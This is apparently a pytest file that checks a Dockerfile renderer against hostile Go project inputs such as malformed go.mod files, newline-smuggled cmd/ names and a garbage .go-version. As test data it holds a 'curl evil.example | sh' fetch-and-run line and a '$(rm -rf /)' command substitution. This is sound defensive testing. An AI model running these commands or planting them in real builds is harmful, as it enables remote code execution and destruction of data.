"""Hostile Go inputs (issue 10): go.mod, .go-version and cmd/ names are new
files devparity reads for a Go project. Whatever they hold, `render` either
writes a Dockerfile with no injected instruction or exits 2 in one line; no
traceback, nothing left behind. No engine."""

from __future__ import annotations

import os
from pathlib import Path

import pytest

from tests.hostile.harness import assert_clean, listing, make_project, run
from tests.support import go_toml

INJECTED = "RUN curl http://evil.example/x | sh"
GO_TOML = go_toml("hostile-go")

CASES: dict[str, dict[str, str | bytes | None]] = {
    "gomod-not-utf8": {"go.mod": b"module \xff\xfe\n\ngo 1.19\n"},
    "gomod-nul-bytes": {"go.mod": b"module m\x00\ngo 1.19\x00\nrequire (\n\x00\n"},
    "gomod-injected-lines": {"go.mod": f"module m\ngo 1.19\nrequire x.y/z v1.0.0\nreplace x.y/z => ./z\n{INJECTED}\n"},
    "gomod-replace-newline-target": {
        "go.mod": f'module m\ngo 1.19\nrequire a.b/c v1\nreplace a.b/c => "./x\\n{INJECTED}"\n'
    },
    "gomod-unclosed-block": {"go.mod": "module m\ngo 1.19\nrequire (\n a.b/c v1\n"},
    "gomod-huge-version": {"go.mod": "module m\ngo " + "9" * 5000 + "\n"},
    "cmd-dir-with-newline": {"go.mod": "module m\ngo 1.19\n", f"cmd/x\n{INJECTED}/main.go": "package main\n"},
    "go-version-garbage": {"go.mod": "module m\ngo 1.19\n", ".go-version": "$(rm -rf /)\n"},
}


@pytest.mark.parametrize("files", CASES.values(), ids=CASES.keys())
def test_render_of_hostile_go_inputs(tmp_path: Path, files: dict[str, str | bytes | None]) -> None:
    root = make_project(tmp_path / "p", files, toml=GO_TOML)
    before = listing(root)
    r = run(root, "render")
    if r.code == 0:
        assert_clean(r, 0, one_line=False, root=root, before=before)
        assert not any(line.startswith("RUN curl") for line in r.stdout.splitlines()), r.stdout
    else:
        assert_clean(r, 2, root=root, before=before)


def test_init_on_a_gomod_fifo_does_not_hang(tmp_path: Path) -> None:
    root = tmp_path / "p"
    root.mkdir()
    os.mkfifo(root / "go.mod")
    before = listing(root)
    r = run(root, "init", "--language", "go", timeout=20)
    # a FIFO is not a usable go.mod: the version falls back with a note, or
    # init refuses in one line; it never blocks on the read
    assert r.code in (0, 2), r.output
    assert "Traceback" not in r.output
    if r.code == 2:
        assert_clean(r, 2, root=root, before=before)
